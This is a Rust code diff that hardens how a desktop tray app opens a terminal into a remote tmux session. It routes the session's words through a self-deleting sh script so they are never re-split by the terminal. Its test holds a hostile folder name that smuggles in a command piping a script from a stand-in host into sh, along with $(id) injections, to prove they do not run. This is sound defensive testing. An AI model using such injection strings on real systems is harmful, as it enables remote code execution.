@@ -516,15 +516,26 @@ pub struct RemoteJump {
     pub launch: Option<Launch>,
     /// A program that must be on PATH for `launch` to work.
     pub program: Option<&'static str>,
+    /// What the launch's terminal runs (Linux): a `sh` script to write, private and executable,
+    /// at the path given to [`remote_jump`] before the launch runs. None where the launch runs
+    /// `argv` itself (Windows) or there is no launch.
+    pub script: Option<String>,
 }
 
 /// How to open a terminal running `argv`. Pure. On Windows, [`windows::remote_jump`].
-pub fn remote_jump(argv: &[String]) -> RemoteJump {
-    remote_jump_on(THIS_DESKTOP, argv)
+///
+/// `argv` holds text from the remote session (its tmux session's name, its folder), quoted for
+/// the remote's shell. A terminal's `-e` is no place for it: `x-terminal-emulator` is whichever
+/// terminal the system chose, and several of them join what follows `-e` into one string and
+/// split it again by their own rules (or hand it to a shell), which undoes the quoting. So the
+/// terminal is given only `script` (a path of ours), and the words go into a script whose one
+/// `exec` line quotes each of them for `sh`; the script removes itself when it starts.
+pub fn remote_jump(argv: &[String], script: &Path) -> RemoteJump {
+    remote_jump_on(THIS_DESKTOP, argv, script)
 }
 
 /// [`remote_jump`] on `desktop`.
-pub fn remote_jump_on(desktop: Desktop, argv: &[String]) -> RemoteJump {
+pub fn remote_jump_on(desktop: Desktop, argv: &[String], script: &Path) -> RemoteJump {
     if desktop == Desktop::Windows {
         return windows::remote_jump(argv);
     }
@@ -533,16 +544,19 @@ pub fn remote_jump_on(desktop: Desktop, argv: &[String]) -> RemoteJump {
         .map(|w| crate::remote::command::shell_quote(w))
         .collect::<Vec<_>>()
         .join(" ");
-    if desktop == Desktop::MacOs {
+    if desktop == Desktop::MacOs || argv.is_empty() {
         return RemoteJump {
             command_line,
             launch: None,
             program: None,
+            script: None,
         };
     }
-    let mut launch = Launch::new("setsid", &["-f", TERMINAL_PROGRAM, "-e"]);
-    launch.args.extend(argv.iter().cloned());
+    let launch = Launch::new("setsid", &["-f", TERMINAL_PROGRAM, "-e"]).path(script);
     RemoteJump {
+        script: Some(format!(
+            "#!/bin/sh\n# Agent Tray: one jump to a remote session. Removes itself as it starts.\nrm -f -- \"$0\"\nexec {command_line}\n"
+        )),
         command_line,
         launch: Some(launch),
         program: Some(TERMINAL_PROGRAM),
@@ -625,6 +639,7 @@ mod transcript_tests {
 /// The jump as Linux and macOS make it (Windows hands over to [`windows`], tested there), run on
 /// every OS: the decisions are pure functions of the desktop.
 #[cfg(test)]
+#[allow(clippy::unwrap_used)]
 mod tests {
     use super::terminals::{Terminal, ZellijPane};
     use super::*;
@@ -653,8 +668,8 @@ mod tests {
         jump_steps_on(DESKTOP, plan)
     }
 
-    fn remote_jump(argv: &[String]) -> RemoteJump {
-        remote_jump_on(DESKTOP, argv)
+    fn remote_jump(argv: &[String], script: &Path) -> RemoteJump {
+        remote_jump_on(DESKTOP, argv, script)
     }
 
     /// As [`super::reveal_launch`] decides on the unix desktop: unix paths are absolute here.
@@ -1110,7 +1125,8 @@ mod tests {
             .iter()
             .map(|s| s.to_string())
             .collect();
-        let jump = remote_jump(&argv);
+        let script = Path::new("/run/user/1000/agent-tray/jump-1.sh");
+        let jump = remote_jump(&argv, script);
         assert!(
             jump.command_line.starts_with("ssh -t -- dev@box cd "),
             "{}",
@@ -1125,11 +1141,59 @@ mod tests {
         {
             let launch = jump.launch.unwrap_or_else(|| panic!("a terminal"));
             assert_eq!(launch.program, "setsid");
-            assert_eq!(launch.args[..3], ["-f", "x-terminal-emulator", "-e"]);
-            assert_eq!(launch.args[3..], argv[..], "each word one argument");
+            assert_eq!(
+                launch.args,
+                ["-f", "x-terminal-emulator", "-e", script.to_str().unwrap()],
+                "the terminal's command line holds our script's path and nothing of the session"
+            );
             assert_eq!(jump.program, Some("x-terminal-emulator"));
+            let text = jump.script.unwrap_or_else(|| panic!("a script"));
+            assert!(
+                text.ends_with(&format!("exec {}\n", jump.command_line)),
+                "{text}"
+            );
         }
         #[cfg(target_os = "macos")]
-        assert_eq!(jump.launch, None);
+        assert_eq!((jump.launch, jump.script), (None, None));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn a_remote_jumps_terminal_runs_no_session_text_and_its_script_hands_each_word_over_unchanged()
+    {
+        // A hostile remote names its tmux session and folder so that a terminal which re-splits
+        // its `-e` text (or hands it to a shell) would run a command here. The terminal gets only
+        // the script's path; the script, run by a real `sh`, hands every word over as it was
+        // (here to `printf`, standing for `ssh`) and removes itself.
+        let hostile = [
+            "/srv/x'; curl -s https://evil.example/x | sh; echo '",
+            "a\nb\tc $(id) `id` \"q\" \\ ;&|<>*?",
+            "-e",
+            "",
+        ];
+        let dir = tempfile::tempdir().unwrap();
+        let script = dir.path().join("jump-1.sh");
+        let mut argv: Vec<String> = vec!["printf".into(), "[%s]\\n".into()];
+        argv.extend(hostile.iter().map(|s| s.to_string()));
+        let jump = remote_jump_on(Desktop::Linux, &argv, &script);
+        let launch = jump.launch.unwrap();
+        for word in &hostile[..2] {
+            assert!(
+                !launch.args.iter().any(|a| a.contains(word)),
+                "no session text on the terminal's command line: {:?}",
+                launch.args
+            );
+        }
+        assert_eq!(launch.args.last().map(String::as_str), script.to_str());
+        std::fs::write(&script, jump.script.unwrap()).unwrap();
+        let out = std::process::Command::new("sh")
+            .arg(&script)
+            .stdin(std::process::Stdio::null())
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{out:?}");
+        let expected: String = hostile.iter().map(|w| format!("[{w}]\n")).collect();
+        assert_eq!(String::from_utf8_lossy(&out.stdout), expected);
+        assert!(!script.exists(), "the script removes itself when it starts");
     }
 }
